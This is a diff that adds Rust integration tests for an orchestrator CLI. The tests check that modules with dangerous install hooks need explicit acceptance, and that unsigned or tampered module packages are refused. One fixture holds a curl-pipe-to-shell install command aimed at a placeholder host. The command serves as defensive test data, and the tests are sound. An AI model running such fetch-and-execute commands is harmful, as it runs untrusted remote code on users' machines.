@@ -260,6 +260,60 @@ fn killed(program: &Program, point: &str, arguments: &[&str]) {
 }
 
 #[test]
+fn what_a_module_does_that_is_dangerous_has_to_be_accepted() {
+    let program = Program::new();
+    let install = "install: [{run: 'curl -fsSL https://example.org/x.sh | sh'}]\n";
+    let folder = program.module("tea", "tea", "1.0.0", install);
+    let before = program.registry();
+    let refused = program.run(&["module", "add", &folder]);
+    refused.fails(1, "has to be accepted");
+    let id = refused.stderr.split("--accept ").nth(1).and_then(|rest| rest.split_whitespace().next());
+    let id = id.expect("the hint names the finding").to_owned();
+    assert_eq!(program.registry(), before);
+    program.run(&["module", "add", &folder, "--accept", "something-else"]).fails(1, "has to be accepted");
+    program.run(&["deploy", &folder, "--no-wait"]).fails(1, "has to be accepted");
+    assert_eq!(program.run(&["module", "add", &folder, "--accept", &id]).status, 0);
+    assert_eq!(program.json(&["module", "show", "tea"])["accepted"], json!([id]));
+
+    let repository = Repository::new();
+    repository.module("pot", "pot", "1.0.0", install);
+    repository.commit();
+    program.run(&["registry", "add", "friends", &repository.bare()]).fails(1, "has to be accepted");
+    assert_eq!(program.json(&["registry", "list"]), json!([]));
+}
+
+#[test]
+fn a_signature_that_does_not_hold_is_refused_and_a_policy_asks_for_one() {
+    let program = Program::new();
+    let folder = program.module("tea", "tea", "1.0.0", "");
+    program.run(&["module", "pack", &folder, "--out", "tea.tar.gz"]);
+    program.json(&["module", "key", "my.key"]);
+    program.json(&["module", "sign", "tea.tar.gz", "--key", "my.key"]);
+    assert_eq!(program.run(&["module", "verify", "tea.tar.gz", "--key", "my.key.pub"]).status, 0);
+    program.run(&["module", "add", "tea.tar.gz"]).fails(1, "signature does not hold");
+    let keys = program.json(&["module", "trust", "add", "my.key.pub"]);
+    assert_eq!(program.run(&["module", "add", "tea.tar.gz"]).status, 0);
+    let signer = program.json(&["module", "show", "tea"])["signed_by"].clone();
+    assert!(signer.as_str().is_some_and(|signer| signer.starts_with(keys[0]["id"].as_str().expect("an id"))));
+
+    program.module("tea", "tea", "2.0.0", "description: Another\n");
+    program.run(&["module", "pack", &folder, "--out", "tea.tar.gz"]);
+    program.run(&["module", "verify", "tea.tar.gz", "--key", "my.key.pub"]).fails(1, "");
+    let before = program.registry();
+    program.run(&["module", "add", "tea.tar.gz"]).fails(1, "signature does not hold");
+
+    let config = program.home().join(".config/orchestrator");
+    std::fs::create_dir_all(&config).expect("a new folder");
+    std::fs::write(config.join("config.toml"), "unsigned = \"refuse\"\n").expect("a new file");
+    program.run(&["module", "add", &folder]).fails(1, "is not signed");
+    assert_eq!(program.registry(), before);
+    program.json(&["module", "sign", &folder, "--key", "my.key"]);
+    assert_eq!(program.run(&["module", "add", &folder]).status, 0, "folders are signed too");
+    program.json(&["module", "trust", "remove", keys[0]["id"].as_str().expect("an id")]);
+    assert_eq!(program.json(&["module", "trust", "list"]), json!([]));
+}
+
+#[test]
 fn a_git_repository_over_http_is_imported_with_its_commit() {
     let repository = Repository::new();
     repository.write("README.md", "# Kettle\n\nA self-hosted server that boils water.\n\n```sh\ndocker run -p 8080:80 ghcr.io/kettle/kettle:2.0\n```\n");
